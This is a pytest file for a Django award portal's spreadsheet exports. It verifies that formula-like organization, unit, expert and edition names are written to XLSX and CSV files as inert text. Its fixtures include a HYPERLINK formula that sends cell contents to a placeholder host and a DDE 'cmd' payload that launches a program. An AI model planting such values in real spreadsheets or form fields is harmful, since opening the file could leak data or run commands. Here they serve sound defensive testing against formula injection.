"""Names that look like formulas reach the Excel exports as text, never as live formulas.

An organization called =HYPERLINK("http://x?"&A1,"点击核对") applies; a unit, an expert and
the edition carry such names too. Every export URL of the portal, fetched by every role that
may fetch it over the permission matrix's world, is opened with openpyxl: no cell is a formula
and every name reads back exactly as typed. The rules themselves (award_portal.documents.excel)
are checked on their own below, for xlsx and csv.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.core.cache import cache
from django.db import transaction
from django.test import override_settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from applications.models import Edition, RecommendingUnit
from award_portal.documents import excel as spreadsheets
from tests.clock import moment
from tests.matrix.test_permission_matrix import MATRIX, WORLD_DAY, page_roles, sign_in
from tests.matrix.world import ANONYMOUS, build_world
from tests.matrix.world import OTHER_UNIT as OTHER_UNIT_ROLE

pytestmark = pytest.mark.django_db

ORGANIZATION = '=HYPERLINK("http://x?"&A1,"点击核对")'
EXPERT = "@SUM(1+9)*cmd|' /C calc'!A0"
UNIT = '=HYPERLINK("http://x?"&A1,"东区")'
OTHER_UNIT = "-西区"
EDITION = "=1+1第三届"

# Every export URL, and the names each one must show as typed.
EXPORTS = {
    "applications:unit_export": (ORGANIZATION, EDITION, UNIT),
    "applications:office_export": (ORGANIZATION, EDITION, UNIT),
    "applications:office_overview_export": (EDITION, UNIT),
    "applications:office_acceptance_export": (EDITION,),
    "review:round_scores_xlsx": (ORGANIZATION, EXPERT),
    "review:deliberation_plaques": (ORGANIZATION,),
    "review:edition_statistics_xlsx": (UNIT,),
    "review:expert_import_template": (),
}
# The other unit has no applications: its list shows its own name, and no one else's.
SEEN_BY = {("applications:unit_export", OTHER_UNIT_ROLE): (EDITION, OTHER_UNIT)}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    """The permission matrix's world with hostile names, built once and rolled back after the
    module; each test runs in a savepoint of it."""
    with (
        time_machine.travel(moment(WORLD_DAY), tick=True),
        django_db_blocker.unblock(),
        override_settings(
            MEDIA_ROOT=tmp_path_factory.mktemp("formula-media"),
            PASSWORD_HASHERS=["django.contrib.auth.hashers.MD5PasswordHasher"],
        ),
    ):
        cache.clear()
        atomic = transaction.atomic()
        atomic.__enter__()
        try:
            built = build_world(organization=ORGANIZATION, expert_name=EXPERT)
            # Renamed as the admin renames a unit (saved), so the lists' rows copy the name.
            for pk, name in (
                (built.application.unit_id, UNIT),
                (built.users[OTHER_UNIT_ROLE].unit_id, OTHER_UNIT),
            ):
                unit = RecommendingUnit.objects.get(pk=pk)
                unit.name = name
                unit.save(update_fields=["name"])
            Edition.objects.filter(pk=built.edition.pk).update(name=EDITION)
            yield built
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)
            cache.clear()


def _export_routes() -> set[str]:
    """The names of the URLs whose address ends in .xlsx or .csv."""
    found: set[str] = set()

    def walk(patterns, namespaces: list[str]) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                prefix = namespaces + [pattern.namespace] if pattern.namespace else namespaces
                walk(pattern.url_patterns, prefix)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(
                (".xlsx", ".csv")
            ):
                found.add(":".join([*namespaces, pattern.name]))

    walk(get_resolver().url_patterns, [])
    return found


def test_every_export_url_is_checked_here():
    assert sorted(_export_routes()) == sorted(EXPORTS)


CASES = [(name, role) for name in EXPORTS for role in sorted(page_roles(name) - {ANONYMOUS})]


@pytest.mark.parametrize(("name", "role"), CASES)
def test_export_writes_formula_like_names_as_text(world, name, role):
    row = MATRIX[name]
    url = reverse(name, kwargs=row.kwargs(world) if row.kwargs else None)

    with time_machine.travel(moment(WORLD_DAY), tick=True):
        response = sign_in(world.users[role]).get(url)

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for r in sheet.iter_rows() for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for wanted in SEEN_BY.get((name, role), EXPORTS[name]):
        assert any(wanted in value for value in texts), (wanted, name, role)
    if (name, role) in SEEN_BY:
        assert not any(ORGANIZATION in value for value in texts)


def test_workbooks_and_csv_files_are_written_only_through_the_spreadsheet_helpers():
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|tablib|xlsxwriter")
    helper = Path(spreadsheets.__file__).resolve()
    found = [
        str(path.relative_to(settings.BASE_DIR))
        for package in ("applications", "review", "publicity", "award_portal")
        for path in sorted(Path(settings.BASE_DIR, package).rglob("*.py"))
        if path.resolve() != helper and writers.search(path.read_text(encoding="utf-8"))
    ]

    assert found == []


# --- the rules ------------------------------------------------------------------------------


def _round_trip(values: list) -> list:
    wb = spreadsheets.workbook()
    spreadsheets.append(wb.active, values)
    sheet = load_workbook(io.BytesIO(spreadsheets.to_bytes(wb))).active
    return [(c.value, c.data_type) for c in sheet[1]]


@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_starts_like_a_formula_stays_text_and_exact(write_only):
    values = ["=1+1", "+86 812", "-减少", "@SUM(A1)", "\t制表", "\r回车", "#N/A", "攀钢"]
    wb = spreadsheets.workbook(write_only=write_only)
    ws = wb.create_sheet("导出")
    spreadsheets.append(ws, values)
    sheet = load_workbook(io.BytesIO(spreadsheets.to_bytes(wb)))["导出"]

    assert [(c.value, c.data_type) for c in sheet[1]] == [(v, "s") for v in values]


def test_numbers_stay_numbers_and_negative_numbers_too():
    assert _round_trip([-5, 3, Decimal("-1.50"), 2.5, True]) == [
        (-5, "n"),
        (3, "n"),
        (-1.5, "n"),
        (2.5, "n"),
        (True, "b"),
    ]


def test_characters_an_xlsx_cannot_hold_are_dropped_instead_of_failing_the_export():
    assert _round_trip(["攀\x0b钢\x01", "两行\n文字"]) == [("攀钢", "s"), ("两行\n文字", "s")]


def test_csv_quotes_text_that_starts_like_a_formula_and_keeps_numbers():
    stream = io.StringIO()
    writer = spreadsheets.csv_writer(stream)

    writer.writerow([ORGANIZATION, "+1", "-减少", "@A1", "\t制表", "\r回车", "攀钢", -5, 1.5])

    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        "'" + ORGANIZATION,
        "'+1",
        "'-减少",
        "'@A1",
        "'\t制表",
        "'\r回车",
        "攀钢",
        "-5",
        "1.5",
    ]
